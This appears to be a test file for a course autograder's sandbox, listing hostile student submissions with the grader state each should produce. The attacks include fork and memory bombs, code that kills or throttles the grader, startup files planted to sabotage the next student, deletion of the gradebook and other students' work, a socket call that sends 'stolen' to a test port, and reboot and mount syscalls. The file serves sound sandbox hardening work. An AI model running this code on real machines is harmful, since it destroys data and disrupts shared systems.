"""Attacks that want to stop the grader, fill the machine, reach the network, or reach the next student."""

from __future__ import annotations

from attack import HARM, Attack, answer

FORGE_SIZE = """
import os, struct
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack(">Q", 2**50))
    except OSError:
        pass
"""

ATTACKS = [
    Attack(
        "exit",
        HARM,
        "Ends the process by every door.",
        cell="import sys, os\ntry:\n    sys.exit(0)\nexcept SystemExit:\n    pass\nexit()\nquit()",
        answers=answer("import os\nos.abort()"),
        state="student_error",
    ),
    Attack(
        "exit in a cell",
        HARM,
        "A cell of the student's own ends the process, again and again.",
        cell="import os\nos._exit(1)",
    ),
    Attack(
        "kill the grader",
        HARM,
        "Signals to the parent, the grader, the group and everybody.",
        answers=answer("""
import os, signal
for pid in (os.getppid(), @JUDGE@, 0, -1, -os.getpgid(0), -@JUDGE@):
    for sign in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try:
            if pid not in (0,):
                os.kill(pid, sign)
        except OSError:
            pass
import ctypes
ctypes.CDLL(None).syscall(434, @JUDGE@, 0)
ctypes.CDLL(None).syscall(200, @JUDGE@, 9)
"""),
    ),
    Attack(
        "limits of the grader",
        HARM,
        "Takes time, priority and processors away from the grader.",
        answers=answer("""
import os, resource
for pid in {os.getppid(), @JUDGE@} - {0}:
    for act in (lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
                lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setaffinity(pid, {0})):
        try:
            act()
        except (OSError, ValueError):
            pass
"""),
    ),
    Attack(
        "own limits",
        HARM,
        "Raises its own limits before it takes what it wants.",
        answers=answer("""
import resource
for limit in (resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
    try:
        resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError):
        pass
hoard = [bytearray(2**28) for _ in range(64)]
"""),
        state="resource_limit",
    ),
    Attack(
        "fork bomb",
        HARM,
        "Processes that make processes.",
        answers=answer("import os\nwhile True:\n    os.fork()"),
        state="student_error",
    ),
    Attack(
        "strays",
        HARM,
        "A daemon that leaves the session and outlives everything.",
        answers=answer("""
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(300)
    os._exit(0)
"""),
        state="student_error",
    ),
    Attack(
        "other programs",
        HARM,
        "Starts a shell, by all the functions that there are.",
        answers=answer("""
import os, subprocess
for start in (lambda: os.system("sleep 300 &"), lambda: subprocess.Popen(["sleep", "300"]),
              lambda: os.posix_spawn("/bin/sleep", ["sleep", "300"], {}),
              lambda: os.execv("/bin/sh", ["sh", "-c", "sleep 300"])):
    try:
        start()
    except OSError:
        pass
"""),
    ),
    Attack(
        "thread bomb",
        HARM,
        "Threads without end.",
        answers=answer(
            "import threading, time\nwhile True:\n"
            "    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()"
        ),
    ),
    Attack(
        "memory bomb",
        HARM,
        "Memory without end, touched.",
        answers=answer("hoard = []\nwhile True:\n    hoard.append(bytearray(b'x') * 2**24)"),
        state="resource_limit",
    ),
    Attack(
        "memory elsewhere",
        HARM,
        "Memory that belongs to no process: memfd, shared memory, pipes, sockets.",
        answers=answer("""
import os, socket, mmap, ctypes
kept = []
for make in (lambda: os.memfd_create("x"), lambda: ctypes.CDLL(None).shmget(0, 2**30, 0o1600)):
    try:
        if make() >= 0:
            raise SystemError("made")
    except OSError:
        pass
while True:
    a, b = socket.socketpair()
    a.setblocking(False)
    kept.append((a, b))
    try:
        while True:
            a.send(bytes(2**16))
    except OSError:
        pass
"""),
        state="student_error",
    ),
    Attack(
        "endless printing",
        HARM,
        "Output without end, past Python's own streams.",
        answers=answer("import os\nwhile True:\n    os.write(1, bytes(2**20))\n    print('x' * 10**6)"),
        state="time_out",
    ),
    Attack(
        "full disk",
        HARM,
        "File after file, each as large as may be.",
        answers=answer("""
n = 0
while True:
    n += 1
    with open(f"file{n}", "wb") as file:
        for _ in range(100):
            file.write(bytes(2**20))
"""),
    ),
    Attack(
        "many files",
        HARM,
        "As many empty files and folders as the disk takes.",
        answers=answer("import os\nn = 0\nwhile True:\n    n += 1\n    os.mkdir(f'folder{n}')"),
    ),
    Attack(
        "deep folders",
        HARM,
        "Folders thousands deep, which whoever cleans up must come back from.",
        answers=answer(
            "import os\nfor _ in range(5000):\n    os.mkdir('d')\n    os.chdir('d')\nos.chmod('.', 0)"
        ),
    ),
    Attack(
        "endless loop",
        HARM,
        "A loop that catches all that is raised into it.",
        answers=answer(
            "while True:\n    try:\n        while True:\n            pass\n"
            "    except BaseException:\n        pass"
        ),
        state="time_out",
    ),
    Attack(
        "signal-proof loop",
        HARM,
        "A loop that has blocked and ignored every signal.",
        answers=answer("""
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    pass
"""),
        state="time_out",
    ),
    Attack(
        "sleep",
        HARM,
        "Waits for ever without using any time.",
        answers=answer("import time\ntime.sleep(3600)"),
        state="time_out",
    ),
    Attack(
        "stopped",
        HARM,
        "Stops itself, so that nobody hears of it again.",
        answers=answer("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)\nwhile True: signal.pause()"),
        state="time_out",
    ),
    Attack(
        "deaf",
        HARM,
        "Closes the channel and goes on.",
        answers=answer("import os, time\nos.closerange(0, 256)\ntime.sleep(3600)"),
    ),
    Attack(
        "crash",
        HARM,
        "Writes to memory that is not there.",
        answers=answer("import ctypes\nctypes.string_at(0)"),
        state="student_error",
    ),
    Attack(
        "endless recursion",
        HARM,
        "Recursion until the stack of the machine ends.",
        answers=answer("import sys\nsys.setrecursionlimit(10**9)\ndef f(): return f()\nf()"),
    ),
    Attack(
        "a frame without end",
        HARM,
        "Announces a message of a petabyte.",
        answers=answer(FORGE_SIZE),
        state="forbidden",
    ),
    Attack(
        "deep value",
        HARM,
        "A list in a list in a list, a hundred thousand times.",
        answers=answer("v = []\nfor _ in range(100_000):\n    v = [v]\nreturn v"),
        state="student_error",
    ),
    Attack(
        "endless value",
        HARM,
        "A list that contains itself, and a table that never ends.",
        answers={
            "W1.3": "def NAME(x):\n    v = []\n    v.append(v)\n    return v",
            "W1.4": "from collections.abc import Mapping\nclass M(Mapping):\n    def __len__(s): return 1\n"
            "    def __iter__(s):\n        while True: yield 1\n    def __getitem__(s, k): return 1\n"
            "def NAME(x):\n    return M()",
        },
    ),
    Attack(
        "tensor larger than the machine",
        HARM,
        "A view that claims a trillion numbers.",
        answers=answer("return torch.zeros(1).expand(10**12)"),
        state="student_error",
    ),
    Attack(
        "colliding keys",
        HARM,
        "Tables whose keys all collide, so that reading them takes hours.",
        answers=answer("return [{i * (2**61 - 1): 0 for i in range(3000)} for _ in range(300)]"),
    ),
    Attack(
        "start-up files",
        HARM,
        "Leaves code where the next student's Python starts.",
        answers=answer("""
import os, sys, site
names = ("sitecustomize.py", "usercustomize.py", "evil.pth", "torch.py", "numpy.py", "lmcourse.py")
folders = [*sys.path, *site.getsitepackages(), os.path.expanduser("~"), os.getcwd(), "/tmp", "/",
           os.path.expanduser("~/.ipython/profile_default/startup"), "/dev/shm", "/var/tmp"]
for folder in folders:
    for name in names:
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("raise SystemExit('EVIL')")
        except OSError:
            pass
"""),
    ),
    Attack(
        "spoiled course",
        HARM,
        "Overwrites the course and the worker where the next student imports them.",
        answers=answer("""
import os, sys
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None) or ""
    if "lmcourse" in path or "worker" in path or path.endswith("torch/__init__.py"):
        for act in (lambda: open(path, "a").write("raise SystemExit"), lambda: os.unlink(path),
                    lambda: os.rename(path, path + ".old"), lambda: os.chmod(path, 0)):
            try:
                act()
            except OSError:
                pass
"""),
    ),
    Attack(
        "spoiled state",
        HARM,
        "Leaves every global switch turned for whoever comes next.",
        cell="import os, sys, builtins\ntorch.set_default_dtype(torch.float64)\n"
        "torch.set_grad_enabled(False)\n"
        "os.environ.clear()\nsys.path.clear()\nsys.modules.clear()\nbuiltins.print = None\nos.umask(0o777)",
    ),
    Attack(
        "network",
        HARM,
        "Calls home, asks for names, listens.",
        answers=answer("""
import socket
reached = 0
for family, kind, address in ((socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @PORT@)),
                              (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)),
                              (socket.AF_INET6, socket.SOCK_STREAM, ("::1", @PORT@))):
    try:
        s = socket.socket(family, kind)
        s.settimeout(0.2)
        s.connect(address)
        s.send(b"stolen")
        reached += 1
    except OSError:
        pass
    try:
        s = socket.socket(family, kind)
        s.bind(("", 0))
        reached += 1
    except OSError:
        pass
assert not reached, "reached the network"
import urllib.request
try:
    urllib.request.urlopen("http://127.0.0.1:@PORT@", timeout=0.2)
except OSError:
    pass
else:
    raise SystemError("reached the network")
"""),
    ),
    Attack(
        "links for the cleaner",
        HARM,
        "Links to the grader's files, for whoever deletes the folder.",
        answers=answer("""
import os
for number, target in enumerate(("@COURSE@", "@COURSE@/gradebook.db", "/tmp", "/")):
    try:
        os.symlink(target, f"link{number}")
    except OSError:
        pass
"""),
    ),
    Attack(
        "others' files",
        HARM,
        "Deletes and overwrites marks and hidden tests.",
        answers=answer("""
import os, shutil
shutil.rmtree("@COURSE@", ignore_errors=True)
for path in ("@COURSE@/gradebook.db", "@COURSE@/submitted/bob/week01.ipynb"):
    for act in (lambda: open(path, "w").write("mine"), lambda: os.unlink(path), lambda: os.truncate(path, 0),
                lambda: os.chmod(path, 0o777), lambda: os.utime(path, (0, 0))):
        try:
            act()
        except OSError:
            pass
"""),
    ),
    Attack(
        "clock, name and mounts",
        HARM,
        "Changes what belongs to the machine.",
        answers=answer("""
import ctypes, time
libc = ctypes.CDLL(None)
libc.sethostname(b"evil", 4)
libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
libc.umount2(b"/tmp", 2)
libc.reboot(0x1234567)
try:
    time.clock_settime(time.CLOCK_REALTIME, 0)
except OSError:
    pass
"""),
    ),
    Attack(
        "script in a message",
        HARM,
        "An error message that a browser would run, with control characters.",
        answers=answer("raise ValueError('<script>alert(1)</script>\\x1b[2J\\x00\\ud800 {{7*7}} =1+1')"),
        state="student_error",
    ),
    Attack(
        "exit handlers",
        HARM,
        "Handlers and destructors that never return.",
        cell="import atexit, time, weakref\natexit.register(time.sleep, 3600)\n"
        "class D:\n    def __del__(self):\n        while True: pass\nkept = D()",
        answers=answer("import sys\nsys.exit()"),
    ),
    Attack(
        "debugger",
        HARM,
        "A trace function that makes every line of the worker take its time.",
        cell="import sys, time\nsys.settrace(lambda *a: time.sleep(0.001))",
        answers=answer("return x"),
    ),
]
